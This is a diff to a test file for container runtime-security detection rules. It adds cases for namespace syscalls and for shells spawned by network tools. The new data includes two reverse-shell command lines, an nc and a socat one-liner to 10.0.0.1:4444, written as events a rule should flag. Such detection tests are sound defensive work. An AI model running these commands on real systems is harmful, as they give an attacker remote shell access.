@@ -552,12 +552,14 @@ CASES = {
          "process_exec_filename": "/usr/bin/ls"},
     ]),
     "Namespace or mount change in container": ("syscall", [
-        {"kind": "ENTER", "id": 272, "container": 1},   # unshare
-        {"kind": "ENTER", "id": 165, "container": 1},   # mount
-        {"kind": "ENTER", "id": 308, "container": 1},   # setns
+        {"kind": "ENTER", "id": 272, "container": 1, "parent_exec_filename": "/bin/sh"},   # unshare
+        {"kind": "ENTER", "id": 165, "container": 1, "parent_exec_filename": "/bin/sh"},   # mount
+        {"kind": "ENTER", "id": 308, "container": 1, "parent_exec_filename": "/bin/sh"},   # setns
     ], [
-        {"kind": "ENTER", "id": 272},                   # on the host
-        {"kind": "ENTER", "id": 0, "container": 1},
+        {"kind": "ENTER", "id": 272, "parent_exec_filename": "/bin/sh"},                   # on the host
+        {"kind": "ENTER", "id": 0, "container": 1, "parent_exec_filename": "/bin/sh"},
+        {"kind": "ENTER", "id": 165, "container": 1, "parent_exec_filename": "/usr/sbin/runc"},
+        {"kind": "ENTER", "id": 165, "container": 1},                                    # parent unknown
     ]),
     "Container runtime socket opened in container": ("file", [
         {"kind": "OPEN", "filename": "/var/run/docker.sock", "path": "/run/docker.sock", "container": 1},
@@ -580,12 +582,16 @@ CASES = {
         {"kind": "CONNECT_ATTEMPT", "family": 1, "address": "/run/nscd/socket",
          "process_exec_filename": "/bin/bash"},
     ]),
-    "Shell spawned by a network tool": ("process", [
+    "Reverse shell by a network tool": ("process", [
         {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/bin/nc.openbsd"},
         {"kind": "EXEC", "exec_filename": "/bin/bash", "parent_exec_filename": "/usr/bin/socat"},
+        {"kind": "EXEC", "exec_filename": "/usr/bin/nc", "exec_command_line": "nc 10.0.0.1 4444 -e /bin/sh"},
+        {"kind": "EXEC", "exec_filename": "/usr/bin/socat",
+         "exec_command_line": "socat tcp:10.0.0.1:4444 exec:sh,pty,stderr"},
     ], [
         {"kind": "EXEC", "exec_filename": "/bin/sh", "parent_exec_filename": "/usr/sbin/cron"},
         {"kind": "EXEC", "exec_filename": "/bin/ls", "parent_exec_filename": "/usr/bin/ncat"},
+        {"kind": "EXEC", "exec_filename": "/usr/bin/nc", "exec_command_line": "nc -z 10.0.0.1 22"},
     ]),
     "Network tool run": ("process", [
         {"kind": "EXEC", "exec_filename": "/usr/bin/ncat"},
@@ -680,6 +686,8 @@ def test_default_rule_matches_its_event_and_not_benign_ones(default_rules, name)
         if "parent_exec_filename" in row:
             processes[f"pid{i}"] = [4242, "", "", f"parent{i}"]
             processes[f"parent{i}"] = [1, row["parent_exec_filename"], "", ""]
+            if "parent_exec_filename" not in schema.empty(category, 0).dtype.names:
+                del row["parent_exec_filename"]   # syscall events: only the lineage table has it
         rows.append(row)
     b = batch(category, *rows)
     for i, row in enumerate(good + benign):
@@ -691,7 +699,8 @@ def test_default_rule_matches_its_event_and_not_benign_ones(default_rules, name)
         {1_000_000_000 + i for i in range(len(good))}
     for a in alerts:
         row = good[a.event["sensor_monotime_nanos"] - 1_000_000_000]
-        shown = [v for v in row.values() if isinstance(v, str) and v not in ("", row["kind"])]
+        shown = [v for k, v in row.items() if isinstance(v, str) and v not in ("", row["kind"])
+                 and k in b.dtype.names]
         assert a.rule == name and "4242" in a.output, a.output
         assert not shown or any(v in a.output for v in shown), a.output
 
